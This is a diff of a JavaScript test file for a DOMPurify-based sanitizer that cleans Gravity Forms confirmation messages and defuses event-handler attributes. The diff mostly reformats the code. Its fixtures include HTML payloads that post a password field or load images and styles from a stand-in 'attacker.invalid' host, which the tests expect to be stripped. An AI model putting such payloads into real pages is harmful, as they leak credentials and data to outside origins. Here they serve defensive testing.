@@ -21,7 +21,11 @@ describe('sanitizeConfirmation (Gravity Forms confirmation messages, in the brow
 
   // Holes DOMPurify's default profile leaves open: each reaches another origin without script.
   it.each([
-    ['a form posting elsewhere', `<form action="http://attacker.invalid/steal"><input name="password"><button>OK</button></form>`, /<form|<input|action=/],
+    [
+      'a form posting elsewhere',
+      `<form action="http://attacker.invalid/steal"><input name="password"><button>OK</button></form>`,
+      /<form|<input|action=/,
+    ],
     ['an image button loading from elsewhere', `<input type="image" src="http://attacker.invalid/x.png">`, /<input|attacker/],
     ['a srcset on another origin', `<img src="/a.png" srcset="http://attacker.invalid/x.png 1x" alt="">`, /srcset|attacker/],
     ['a style with url()', `<p style="background:url(http://attacker.invalid/x.png)">p</p>`, /style|attacker/],
@@ -32,7 +36,7 @@ describe('sanitizeConfirmation (Gravity Forms confirmation messages, in the brow
 
   it('keeps GF’s wrapper, paragraphs, emphasis and tel/mailto/http links', () => {
     const html =
-      "<div id='gform_confirmation_wrapper_1' class='gform_confirmation_wrapper '><div class='gform_confirmation_message'><p><strong>Bedankt!</strong> Bel <a href=\"tel:0301234567\">030</a>, mail <a href=\"mailto:a@b.nl\">ons</a> of lees <a href=\"https://example.nl/x\" title=\"x\">dit</a>.</p></div></div>";
+      '<div id=\'gform_confirmation_wrapper_1\' class=\'gform_confirmation_wrapper \'><div class=\'gform_confirmation_message\'><p><strong>Bedankt!</strong> Bel <a href="tel:0301234567">030</a>, mail <a href="mailto:a@b.nl">ons</a> of lees <a href="https://example.nl/x" title="x">dit</a>.</p></div></div>';
     expect(sanitizeConfirmation(DOMPurify, html)).toBe(
       '<div><div><p><strong>Bedankt!</strong> Bel <a href="tel:0301234567">030</a>, mail <a href="mailto:a@b.nl">ons</a> of lees <a href="https://example.nl/x" title="x">dit</a>.</p></div></div>',
     );
@@ -49,6 +53,11 @@ describe('defuseHandlers (no event handler attribute reaches the parser)', () =>
   ])('%s', (html, defused) => expect(defuseHandlers(html)).toBe(defused));
 
   it('leaves text and the words of values alone', () => {
-    for (const html of ['Je offerte is onderweg, wij zijn online.', '<a href="/contact/" title="Bel ons online">ons</a>', '<img alt=online src=x>']) expect(defuseHandlers(html)).toBe(html);
+    for (const html of [
+      'Je offerte is onderweg, wij zijn online.',
+      '<a href="/contact/" title="Bel ons online">ons</a>',
+      '<img alt=online src=x>',
+    ])
+      expect(defuseHandlers(html)).toBe(html);
   });
 });
